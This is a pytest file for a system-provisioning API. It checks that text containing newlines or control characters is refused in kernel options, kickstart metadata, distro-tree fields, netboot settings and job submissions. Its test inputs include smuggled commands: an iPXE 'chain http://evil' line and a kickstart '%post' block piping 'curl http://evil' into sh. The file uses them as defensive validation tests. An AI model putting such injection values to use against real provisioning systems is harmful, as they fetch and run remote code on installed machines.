"""Text bound for a netboot file or a kickstart is refused at the API when it would break a line
(the rule the netboot writer applies: domain/boot_text.py), naming the field; nothing is written."""
import pytest

from .test_jobs_api import post_xml
from .test_provisioning_api import TREE, provisionable, setup

EVIL = 'x="a\nchain http://127.0.0.1:9/evil"'  # the example: a second iPXE command


def _nothing_queued(lab):
    _, queued = lab.alice.get("/systems/p1.lab.test/commands")
    _, installations = lab.alice.get("/systems/p1.lab.test/installations")
    return queued == [] and installations == []


@pytest.mark.parametrize("field, value, reason", [
    ("kernel_options", EVIL, "control character"),
    ("kernel_options", "quiet console=tty0\u2028chain", "control character"),  # a Unicode line separator
    ("ks_meta", 'root_password="x\n%post\ncurl http://evil | sh\n%end"', "control character"),
    ("ks_meta", "lang=de\x00", "NUL character"),  # refused for every string of every body (api/inputs.py)
])
def test_manual_provision_refuses_text_that_breaks_a_line(lab, field, value, reason):
    setup(lab)
    status, problem = lab.alice.post("/systems/p1.lab.test/provision", {"distro_tree": "Fedora-40", field: value})
    assert status == 422, problem
    assert problem["field"] == field and reason in problem["detail"]
    assert _nothing_queued(lab)


def test_several_lines_of_plain_words_are_still_fine(lab):
    """A newline between words separates them like a space; only a newline inside one word is refused."""
    setup(lab)
    status, install = lab.alice.post("/systems/p1.lab.test/provision",
                                     {"distro_tree": "Fedora-40", "ks_meta": "lang=en_GB.UTF-8\nkeyboard=uk",
                                      "kernel_options": "quiet\nconsole=tty0"})
    assert status == 202, install


@pytest.mark.parametrize("field", ["url", "kernel", "initrd", "kernel_options", "ks_meta", "name", "family"])
def test_distro_trees_refuse_it_when_added_and_when_changed(lab, field):
    bad = {"url": "http://mirror/\nchain http://evil/", "kernel": "vmlinuz\r\nboot", "initrd": "initrd\timg",
           "kernel_options": 'a="b\nc"', "ks_meta": 'k="v\nw"', "name": "F40\nx", "family": "F\x1b"}[field]
    status, problem = lab.admin.post("/distro-trees", {**TREE, field: bad})
    assert status == 422 and problem["field"] == field, problem
    assert lab.admin.get("/distro-trees")[1] == []
    _, tree = lab.admin.post("/distro-trees", TREE)
    if field not in ("name",):  # a tree's name cannot be changed
        status, problem = lab.admin.patch(f"/distro-trees/{tree['id']}", {field: bad})
        assert status == 422 and problem["field"] == field, problem
        assert lab.admin.get(f"/distro-trees/{tree['id']}")[1][field] == TREE[field]


@pytest.mark.parametrize("netboot, field", [
    ({"mac": "52:54:00:aa:bb:01", "kernel_options": EVIL}, "netboot.kernel_options"),
    ({"mac": "52:54:00:aa:bb:01", "ks_meta": 'a="1\n2"'}, "netboot.ks_meta"),
    ({"mac": "52:54:00:aa:bb:01", "note": "two\nlines"}, "netboot.note"),
])
def test_a_systems_netboot_settings_refuse_it(lab, netboot, field):
    status, problem = lab.admin.post("/systems", {"fqdn": "n1.lab.test", "arch": "x86_64", "netboot": netboot})
    assert status == 422 and problem["field"] == field, problem
    provisionable(lab)
    status, problem = lab.admin.patch("/systems/p1.lab.test", {"netboot": netboot})
    assert status == 422 and problem["field"] == field, problem
    assert "kernel_options" not in lab.admin.get("/systems/p1.lab.test")[1]["netboot"]


def test_a_systems_lab_and_attributes_reach_the_kickstart_so_they_are_refused_too(lab):
    status, problem = lab.admin.post("/systems", {"fqdn": "n1.lab.test", "arch": "x86_64", "lab": "a\nb"})
    assert status == 422 and problem["field"] == "lab", problem
    status, problem = lab.admin.post("/systems", {"fqdn": "n1.lab.test", "arch": "x86_64",
                                                  "attributes": {"rack": ["r1", "r2\n%post"]}})
    assert status == 422 and problem["field"] == "attributes.rack[1]", problem


@pytest.mark.parametrize("field", ["kernel_options", "ks_meta"])
def test_jobs_refuse_it_at_submission(lab, field):
    status, problem = lab.alice.post("/jobs", {"recipe_sets": [{"recipes": [{field: 'k="v\nchain http://evil"'}]}]})
    assert status == 422 and problem["field"] == f"recipe_sets[0].recipes[0].{field}", problem
    # XML normalises a literal newline in an attribute to a space, but a character reference keeps it.
    attribute = "kernel_options" if field == "kernel_options" else "ks_meta"
    status, problem = post_xml(lab, "alice", f'<job><recipeSet><recipe {attribute}="k=&quot;v&#10;chain&quot;"/>'
                                             '</recipeSet></job>'.encode())
    assert status == 422 and attribute in problem["detail"], problem
    assert lab.alice.get("/jobs")[1] == []
